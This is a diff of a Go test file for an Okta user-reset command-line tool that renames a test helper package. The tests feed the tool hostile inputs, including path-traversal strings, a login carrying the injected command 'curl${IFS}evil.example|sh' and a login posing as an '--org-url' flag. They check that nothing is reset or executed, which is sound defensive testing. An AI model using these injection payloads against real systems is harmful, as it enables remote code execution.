@@ -14,7 +14,7 @@ import (
 	"time"
 	"unicode"
 
-	"oktareset/oktaclient/oktatest"
+	"oktareset/oktaclient/standin"
 	"oktareset/runner"
 	"oktareset/runner/access"
 	"oktareset/runner/console"
@@ -40,7 +40,7 @@ func (v *virtual) wantHarmless(what, text string) {
 // Cells that aim at another path, another user, a terminal or a spreadsheet: whoever isn't named isn't reset, nothing else is asked for, and
 // what is printed and written does nothing.
 func TestHostileCells(t *testing.T) {
-	virtually(t, 3, oktatest.Config{}, func(v *virtual) {
+	virtually(t, 3, standin.Config{}, func(v *virtual) {
 		cells := []string{
 			"me", "ME", " me ", "me\u200b", "ｍｅ", "me/", "me?", "me#", "me;x", "./me", "%6d%65", ".", "..", "../me", "../../logs", `..\me`,
 			"%2e%2e", "%2e%2e%2fgroups", "%252e%252e", "..%00", "x?limit=1", "x#y", "x;y", v.ids[1] + "/lifecycle/deactivate", v.ids[1] + "?x", v.ids[1] + ";x",
@@ -143,14 +143,14 @@ func TestHostileServerTexts(t *testing.T) {
 		{"whoami", "-v"},
 		{"whoami", "--json", "--log-format", "json"},
 	} {
-		for _, trouble := range []oktatest.Kind{"", oktatest.WrongStatus, oktatest.AuthFailed} {
+		for _, trouble := range []standin.Kind{"", standin.WrongStatus, standin.AuthFailed} {
 			t.Run(strings.Join(flags, " ")+" "+string(trouble), func(t *testing.T) {
-				virtually(t, 3, oktatest.Config{}, func(v *virtual) {
+				virtually(t, 3, standin.Config{}, func(v *virtual) {
 					if flags[0] == "audit" || flags[0] == "watch" {
 						v.reset(confirm(3), "-o", v.path("results.csv"))
 					}
 					if trouble != "" {
-						v.org.Script(oktatest.Fault{Kind: trouble, Skip: 2})
+						v.org.Script(standin.Fault{Kind: trouble, Skip: 2})
 					}
 					v.tampered = poison
 					args := slices.Clone(flags)
@@ -216,8 +216,8 @@ func (v *virtual) onTerminalIn(ctx context.Context, args ...string) (string, int
 // A login that a user chose isn't a part of the command that a message proposes.
 func TestProposedCommandsAreQuoted(t *testing.T) {
 	const login = "`curl${IFS}evil.example|sh`@example.com"
-	org := oktatest.New(oktatest.Config{})
-	org.Add(oktatest.User{Login: login, Factors: []oktatest.Factor{{Type: "sms", Provider: "OKTA", Status: "PENDING_ACTIVATION"}, {Type: "webauthn", Provider: "FIDO"}}})
+	org := standin.New(standin.Config{})
+	org.Add(standin.User{Login: login, Factors: []standin.Factor{{Type: "sms", Provider: "OKTA", Status: "PENDING_ACTIVATION"}, {Type: "webauthn", Provider: "FIDO"}}})
 	for _, args := range [][]string{{"verify", login, "sms"}, {"verify", login, "webauthn"}, {"get", login, "push"}} {
 		var stdout bytes.Buffer
 		_, stderr := onTerminal(t, org, &stdout, args...)
@@ -226,7 +226,7 @@ func TestProposedCommandsAreQuoted(t *testing.T) {
 			t.Errorf("%q: %s", args, stderr)
 		}
 	}
-	flag := org.Add(oktatest.User{Login: "--org-url=https://evil.example", Factors: []oktatest.Factor{{Type: "sms", Provider: "OKTA", Status: "PENDING_ACTIVATION"}}})
+	flag := org.Add(standin.User{Login: "--org-url=https://evil.example", Factors: []standin.Factor{{Type: "sms", Provider: "OKTA", Status: "PENDING_ACTIVATION"}}})
 	if _, stderr := onTerminal(t, org, io.Discard, "verify", flag.ID, "sms"); !strings.Contains(stderr, "factors activate "+flag.ID+" ") {
 		t.Errorf("a login that looks like a flag: %s", stderr)
 	}
